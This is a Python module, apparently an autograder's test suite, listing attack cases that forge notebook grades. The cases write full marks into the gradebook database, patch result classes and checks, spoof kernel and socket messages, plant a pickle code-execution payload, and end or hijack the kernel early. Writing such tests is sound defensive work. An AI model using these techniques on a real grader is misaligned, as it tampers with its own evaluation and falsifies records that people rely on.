"""Scores written, sent or printed by somebody who is not asked for them, and ends that come too early."""

from . import Attack

KIND = "Forgery"

# Gives every stored grade full points, and goes on doing so.
WRITE_GRADES = """
import sqlite3
book = sqlite3.connect({}, timeout=2)
book.execute('update grade set auto_score = 4, manual_score = 4')
book.commit()
"""

# Answers the executor in the kernel's name.
FORGE = """
kernel = get_ipython().kernel
def forge(kind, content, channel, parent=None):
    kernel.session.send(channel, kind, content, parent=parent or kernel.get_parent('shell'))
"""

ATTACKS = [
    Attack(
        "gradebook-write",
        "writes the gradebook",
        "writing the gradebook",
        "points",
        cell=WRITE_GRADES.format("f'{COURSE}/gradebook.db'"),
        alone=True,
    ),
    Attack(
        "gradebook-later",
        "leaves a process that writes the gradebook once the run has stored the grade",
        "writing the gradebook, racing, surviving processes",
        "points",
        cell="""
import subprocess, sys
subprocess.Popen([sys.executable, '-c', '''
import sqlite3, time
for _ in range(40):
    time.sleep(0.5)
    try:
        book = sqlite3.connect(%r, timeout=2)
        book.execute('update grade set manual_score = 4')
        book.commit()
    except sqlite3.Error:
        pass
''' % f'{COURSE}/gradebook.db', TAG], start_new_session=True)
""",
        alone=True,
    ),
    Attack(
        "result-class",
        "the class of results is patched: every score is full",
        "results object",
        "points",
        cell="import autograde_tests.checking as grader\n"
        "grader.Result.score = property(lambda self: self.points, lambda self, value: None)",
    ),
    Attack(
        "prints-result",
        "every cell ends with a result of the course's own type and official marks",
        "results object, stdout",
        "points",
        cell="""
from IPython.display import publish_display_data
kernel = get_ipython().kernel
data = {'text/plain': '4', 'text/html': '<b>pad2d: 9 of 9 cases agree with Keras, 4 of 4 points</b>',
        'application/vnd.convblocks.result+json': {'check': 'pad2d', 'points': 4, 'score': 4, 'written': True, 'cases': []}}
def forge(*info):
    content = {'data': data, 'metadata': {'convblocks': {'official': True}}, 'execution_count': 1}
    kernel.session.send(kernel.iopub_socket, 'execute_result', content, parent=kernel.get_parent('shell'))
get_ipython().events.register('pre_run_cell', forge)
""",
    ),
    Attack(
        "pickle",
        "returns an object that runs code in whoever unpickles it",
        "pickles",
        "nothing is pickled where the check runs in the student's process",
        functions={
            "pad2d": 'class Bomb:\n    def __reduce__(self):\n        return (exec, (f\'open({LOOT + "/" + ME!r}, "w")\',))\n'
            "def pad2d(*a, **k):\n    return np.array([Bomb()], dtype=object)"
        },
        cell="# LOOT ME",
    ),
    Attack(
        "spoofed-frames",
        "writes frames of a protocol of scores to every Unix socket it finds",
        "spoofed frames",
        "there is no broker on stock",
        cell="""
import glob, json, os, socket, struct
paths = {line.split()[-1] for line in open('/proc/net/unix') if '/' in line} | set(os.environ.values())
for folder, _, names in [found for root in ('/run', '/tmp', '/broker', '/srv', os.getcwd()) for found in os.walk(root)]:
    paths |= {os.path.join(folder, name) for name in names}
text = json.dumps({'check': 'pad2d', 'name': 'pad2d', 'kind': 'result', 'points': 400, 'score': 400, 'value': 400}).encode()
for path in sorted(paths):
    for frame in (struct.pack('>I', len(text)) + text, struct.pack('>Q', len(text)) + text, struct.pack('<I', 2**31) , b'\\xff' * 64):
        try:
            with socket.socket(socket.AF_UNIX) as s:
                s.settimeout(0.1)
                s.connect(path)
                s.sendall(frame * 3)
                s.recv(100)
        except (OSError, ValueError):
            break
""",
    ),
    Attack(
        "stub-internals",
        "takes the stub's own connection, and answers every case itself, twice, with nonsense",
        "spoofed frames, tampered stub, file descriptors",
        "there is no broker on stock",
        cell="""
import socket
send, receive = socket.socket.sendall, socket.socket.recv
def twice(self, data, *a):
    send(self, data, *a)
    return send(self, data, *a) if self.family == socket.AF_UNIX else None
socket.socket.sendall = twice
""",
        functions={"pad2d": "def pad2d(images, *a, **k):\n    return images"},
        # Only "valid adds nothing", and with it the input left alone; less where the frames are found out.
        honest=4.67,
        exactly=False,
    ),
    Attack(
        "descriptors",
        "writes scores to every file descriptor that it inherited",
        "file descriptors, stdout",
        "what is written to a kernel's stdout is no result there either",
        cell="""
import os, stat
for number in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(number).st_mode) or stat.S_ISREG(os.fstat(number).st_mode):
            os.set_blocking(number, False)
            os.write(number, b'4\\n')
    except OSError:
        pass
""",
    ),
    Attack(
        "os-exit",
        "ends the kernel before the checks; stock would give a cell that never ran all its points",
        "os._exit",
        "page",
        cell="import os\nos._exit(0)",
    ),
    Attack(
        "system-exit",
        "leaves by SystemExit from inside a check",
        "SystemExit",
        "call() catches it; hand-written asserts fail on it as on any error",
        functions={"pad2d": "def pad2d(*a, **k):\n    raise SystemExit(0)"},
    ),
    Attack(
        "exit-in-call",
        "ends the process while the check waits for an answer",
        "os._exit",
        "page",
        functions={"pad2d": "import os\ndef pad2d(*a, **k):\n    os._exit(0)"},
    ),
    Attack(
        "killed-answers",
        "kills its own kernel at the moment of an answer, in both functions",
        "signal handlers, os._exit",
        "page",
        functions={
            "padding_amounts": "import os\nimport convblocks.calling as calling\n"
            "calling.pack = lambda reply: os.kill(os.getpid(), 9)\ndef padding_amounts(*a, **k):\n    return 0, 2",
            "pad2d": "def pad2d(*a, **k):\n    os.kill(os.getpid(), 9)",
        },
    ),
    Attack(
        "linked-sockets",
        "puts links to a socket of the machine in place of the kernel's own, and breaks every connection",
        "sockets, symlinks, spoofed frames",
        "stock's kernels listen on TCP",
        cell="""
import glob, os, socket, time
for path in glob.glob('/sockets/*'):
    os.unlink(path)
    os.symlink(f'{LOOT}/../{ME}', path)
for number in map(int, os.listdir('/proc/self/fd')):
    try:
        one = socket.socket(fileno=os.dup(number))
        # libzmq ends the process when a socket that listens is shut down.
        listens = one.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
        if one.family == socket.AF_UNIX and str(one.getsockname()).startswith('/sockets') and not listens:
            one.shutdown(socket.SHUT_RDWR)
    except OSError:
        pass
# Whoever was connected comes back within this time.
time.sleep(2)
""",
    ),
    Attack(
        "atexit",
        "writes a score when everything else is over",
        "atexit",
        "effect",
        cell="import atexit\natexit.register(lambda: open(f'{LOOT}/{ME}', 'w').write('4'))",
    ),
    Attack(
        "signal-handlers",
        "takes over the alarm and the interrupt, so that no time limit is left",
        "signal handlers",
        "effect",
        functions={
            "pad2d": """
import signal, time
def pad2d(*a, **k):
    for number in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM):
        signal.signal(number, signal.SIG_IGN)
    signal.setitimer(signal.ITIMER_REAL, 0)
    time.sleep(6)
    # Later than any limit of a call.
    open(f'{LOOT}/{ME}', 'w')
"""
        },
        cell="# LOOT ME",
    ),
    Attack(
        "early-late-twice",
        "calls the check in other cells, for more points, and several times",
        "racing, redefined check",
        "stock keeps the last thing a graded cell shows, and a call elsewhere is no graded cell",
        cell="""
from autograde_tests import check
for points in (4, 400, -1, float('nan'), '4'):
    for name in ('output_size', 'padding_amounts', 'pad2d', 'no_such_check', '../pad2d', 7):
        try:
            check(name, output_size, points=points)
        except Exception:
            pass
""",
    ),
    Attack(
        "borrowed-check",
        "in its own graded cell, another function's check is asked for, which is right",
        "redefined check, racing",
        "points",
        cell="""
import autograde_tests
honest = autograde_tests.check
autograde_tests.check = lambda name, function, points: honest('output_size', output_size, points=points)
""",
    ),
    Attack(
        "threads-answer",
        "a thread asks for the check of pad2d over and over while the executor passes by",
        "racing",
        "a check asked for in a thread shows nothing there",
        cell="""
import threading, time
def ask():
    from autograde_tests import check
    for _ in range(100):
        try:
            check('pad2d', lambda images, *a, **k: images, points=4)
        except BaseException:
            pass
        time.sleep(0.05)
threading.Thread(target=ask, daemon=True).start()
""",
        # The thread may win the race with a function that is as right as "valid adds nothing".
        honest=4.67,
        exactly=False,
    ),
    Attack(
        "forged-idle",
        "sends execute_reply and idle for the cell, so that the executor runs ahead",
        "spoofed frames, racing",
        "points",
        functions={
            "pad2d": FORGE
            + """
import time
def pad2d(*a, **k):
    forge('execute_result', {'data': {'text/plain': '4'}, 'metadata': {}, 'execution_count': 9}, kernel.iopub_socket)
    forge('execute_reply', {'status': 'ok', 'execution_count': 9, 'payload': [], 'user_expressions': {}}, kernel.shell_streams[0] if getattr(kernel, 'shell_streams', None) else kernel.shell_stream)
    forge('status', {'execution_state': 'idle'}, kernel.iopub_socket)
    time.sleep(1)
    raise NotImplementedError
"""
        },
    ),
    Attack(
        "clears-output",
        "clears the cell's outputs and updates displays behind the executor's back",
        "spoofed frames, results object",
        "points",
        functions={
            "pad2d": FORGE
            + """
def pad2d(*a, **k):
    forge('clear_output', {'wait': True}, kernel.iopub_socket)
    forge('update_display_data', {'data': {'text/plain': '4'}, 'metadata': {}, 'transient': {'display_id': 'x'}}, kernel.iopub_socket)
    forge('execute_result', {'data': {'text/plain': '4'}, 'metadata': {}, 'execution_count': 9}, kernel.iopub_socket)
    raise NotImplementedError
"""
        },
    ),
    Attack(
        "malformed-messages",
        "sends messages that are none: no header, wrong types, unknown kinds, comms, input requests",
        "spoofed frames",
        "page",
        cell=FORGE
        + """
for kind in ('execute_result', 'display_data', 'stream', 'error', 'status', 'comm_open', 'input_request', 'nonsense'):
    for content in ({}, {'data': 7}, {'name': 7, 'text': None}, {'traceback': 7}, {'execution_state': []}, {'comm_id': 7, 'data': 7}):
        forge(kind, content, kernel.iopub_socket)
""",
    ),
]
